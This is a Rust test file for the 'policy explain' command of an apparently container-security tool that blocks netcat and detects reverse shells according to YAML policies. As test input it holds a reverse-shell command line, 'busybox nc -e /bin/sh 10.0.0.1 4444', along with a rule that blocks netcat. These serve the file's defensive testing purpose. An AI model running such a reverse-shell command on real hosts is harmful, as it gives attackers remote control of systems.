use portcullis_proto::v1::{self, ExplainPolicyResponse, explain_policy_response as response};
use serde_json::{Value, json};

use crate::support::*;

fn file(node: &Node, name: &str, text: &str) -> String {
    let path = node.directory.path().join(name);
    std::fs::write(&path, text).unwrap();
    path.to_str().unwrap().to_owned()
}

const SHOP: &str = "\
apiVersion: portcullis.dev/v1
kind: NetworkUtilityPolicy
metadata: {name: shop}
spec:
  mode: enforce
  select: {namespaces: ['shop-*'], images: ['*/web:*']}
  rules:
  - {categories: [http], action: alert}
  - {categories: [netcat], action: block}
  exceptions:
  - {tools: [nc], arguments: [-z, '...'], users: [33]}
";

fn words(text: &str) -> Vec<&str> {
    text.split(' ').collect()
}

#[test]
fn files_are_looked_at_without_the_agent() {
    let node = Node::new();
    let shop = file(&node, "shop.yaml", SHOP);
    let nc = "-- busybox nc -e /bin/sh 10.0.0.1 4444";
    let run = |arguments: &str| {
        let output = node.run(&words(&format!("policy explain --file {shop} {arguments}")));
        assert!(output.status.success(), "{}", stderr(&output));
        stdout(&output)
    };
    assert_eq!(
        run(&format!("--namespace shop-eu --image r/web:1 {nc}")),
        "busybox nc -e /bin/sh 10.0.0.1 4444\n  \
         lsm                   blocked: execve fails with EPERM, the program never runs; it is reported\n  \
         tracepoint            killed: SIGKILL ends it before its first instruction; it is reported\n\
         \n\
         It is nc (high) by applet; rule 2 says block.\n\
         Policy shop: it selects namespaces \"shop-*\", images \"*/web:*\".\n\
         Mode enforce, by policy.\n\
         \n\
         Not\n  \
         default: it selects every container, but shop is tried before, or takes its place\n"
    );
    let bank = run(&format!("--namespace bank --image r/web:1 {nc}"));
    assert!(bank.contains("would_block: it runs, and is reported as what enforce mode would stop"), "{bank}");
    assert!(
        bank.contains("Policy default: no other policy selects this container.\nMode detect, by policy.\n"),
        "{bank}"
    );
    assert!(bank.contains("\n  shop: namespaces \"bank\" is none of \"shop-*\"\n"), "{bank}");
    let unknown = run(&format!("--namespace shop-eu {nc}"));
    assert!(unknown.contains("shop: it goes by the image, which is not known"), "{unknown}");
    let excepted = run("--namespace shop-eu --image r/web:1 --user 33 -- nc -z db 5432");
    assert!(excepted.contains("no signal: it runs; nothing is reported, as an exception lets it pass"), "{excepted}");
    assert!(excepted.contains("rule 2 says block, but exception 1 lets it pass."), "{excepted}");
    let other = run("--namespace shop-eu --image r/web:1 --user 34 -- nc -z db 5432");
    assert!(other.contains("blocked: "), "{other}");
    let annotation = run("--annotation portcullis.dev/mode=enforce -- nc");
    assert!(annotation.contains("Mode enforce, by annotation.") && annotation.contains("blocked: "), "{annotation}");
    assert!(run("-- ls -l").contains("It is nothing that a rule of the policy names."));
    assert!(run("--stdio-socket -- sh").contains("It is reverse_shell (high) by stdio; "));
}

#[test]
fn json_has_every_field_and_directories_are_read() {
    let node = Node::new();
    file(&node, "shop.yaml", SHOP);
    file(&node, "README", "x");
    let directory = node.directory.path().to_str().unwrap();
    let arguments = format!(
        "policy explain --directory {directory} --namespace shop-eu --image r/web:1 --exe /usr/bin/nc.openbsd -o json -- report x"
    );
    let output = node.run(&words(&arguments));
    let json: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(
        json["finding"],
        json!({
            "tool": "nc", "identifiedBy": ["resolved_name"], "action": "block", "rule": 2, "exception": null,
            "severity": "high",
        })
    );
    assert_eq!(json["outcomes"][1]["verdict"], "killed");
    assert_eq!((&json["excepted"], &json["candidates"][0]["chosen"]), (&json!([]), &json!(true)));

    let error = |arguments: &str| {
        let output = node.run(&words(arguments));
        assert_eq!(output.status.code(), Some(1), "{arguments}");
        stderr(&output)
    };
    file(&node, "two.yaml", SHOP);
    assert!(error(&format!("policy explain --directory {directory} -- nc")).contains("both hold a policy named shop"));
    let bad = file(&node, "bad.yml", "kind: [\n");
    assert!(error(&format!("policy explain --file {bad} -- nc")).contains("bad.yml:"));
    assert!(
        error(&format!("policy explain --file {directory}/shop.yaml --annotation portcullis.dev/mode=odd -- nc"))
            .contains("\"odd\"")
    );
    for usage in
        ["policy explain", "policy explain nc", "policy explain --annotation x -- nc", "policy explain --user x -- nc"]
    {
        assert_eq!(node.run(&words(usage)).status.code(), Some(2), "{usage}");
    }
}

#[test]
fn the_agent_is_asked_all_that_is_known() {
    let finding = |exception| response::Finding {
        tool: HOSTILE.into(),
        identified_by: vec![v1::Identification::Applet.into(), v1::Identification::InvokedName.into()],
        action: v1::Action::Block.into(),
        rule: 3,
        exception,
        severity: v1::Severity::High.into(),
    };
    let explanation = ExplainPolicyResponse {
        candidates: vec![response::PolicyCandidate { name: HOSTILE.into(), chosen: false, reason: HOSTILE.into() }],
        policy: HOSTILE.into(),
        policy_reason: HOSTILE.into(),
        mode: v1::Mode::Enforce.into(),
        mode_reason: HOSTILE.into(),
        finding: Some(finding(None)),
        excepted: vec![finding(Some(1))],
        outcomes: vec![response::Outcome {
            backend: v1::Backend::Lsm.into(),
            verdict: v1::Verdict::Blocked.into(),
            message: HOSTILE.into(),
            in_use: true,
        }],
    };
    let data = Data { explanation, ..Data::default() };
    let node = Node::new();
    let _agent = Agent::start(&node, data.clone());
    let arguments = "policy explain --namespace n --pod p --container c --image i --annotation a=b=c --annotation d= \
                     --user 7 --exe /x/y --ancestor /bin/sh --ancestor /init --place memfd --stdio-socket -- nc -e";
    for format in ["table", "json", "yaml"] {
        let output = node.run(&[&["-o", format], &words(arguments)[..]].concat());
        assert!(output.status.success(), "{}", stderr(&output));
        assert_harmless(&stdout(&output));
    }
    let table = stdout(&node.run(&words(arguments)));
    assert!(table.contains("lsm (this node)"), "{table}");
    let asked = data.explained.lock().unwrap().pop().unwrap();
    assert_eq!(
        [&asked.namespace, &asked.pod, &asked.container, &asked.image, &asked.exe],
        ["n", "p", "c", "i", "/x/y"]
    );
    assert_eq!((asked.annotations["a"].as_str(), asked.annotations["d"].as_str()), ("b=c", ""));
    assert_eq!(
        (asked.uid, asked.stdio_is_socket, &asked.ancestors[..]),
        (7, true, &["/bin/sh".to_owned(), "/init".into()][..])
    );
    assert_eq!((asked.places, asked.argv), (vec![v1::Place::Memfd.into()], vec!["nc".to_owned(), "-e".into()]));
}
